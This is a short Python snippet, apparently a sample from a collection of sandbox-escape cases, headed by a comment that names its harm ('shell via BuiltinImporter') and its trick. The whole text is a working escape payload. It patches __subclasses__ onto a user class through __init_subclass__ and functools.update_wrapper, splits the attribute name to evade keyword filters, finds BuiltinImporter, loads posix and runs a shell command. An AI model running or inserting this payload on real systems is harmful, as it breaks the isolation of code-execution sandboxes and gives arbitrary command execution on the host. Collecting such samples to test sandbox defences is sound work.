# HARM: shell via BuiltinImporter | TRICK: Base.__init_subclass__ patches each new subclass with object's bound __subclasses__ via functools.update_wrapper; recursive walk descends into A
import functools
class Base:
    def __init_subclass__(cls, **kw):
        super().__init_subclass__(**kw)
        functools.update_wrapper(cls, object, assigned=('__sub' + 'classes__',), updated=())
class A(Base): pass
def walk(cls=Base, depth=0):
    for sub in cls.__subclasses__():
        yield sub
        if depth < 1:
            yield from walk(sub, depth + 1)
for k in walk():
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
        break
